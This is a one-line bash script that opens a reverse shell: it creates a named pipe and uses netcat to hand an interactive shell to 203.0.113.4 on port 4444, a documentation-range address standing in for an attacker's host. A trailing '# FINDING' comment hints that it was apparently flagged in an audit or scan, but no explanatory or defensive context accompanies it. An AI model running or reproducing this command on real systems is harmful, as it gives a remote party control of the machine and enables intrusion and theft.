#!/bin/bash
mkfifo /run/f; cat /run/f | sh -i 2>&1 | nc 203.0.113.4 4444 > /run/f  # FINDING
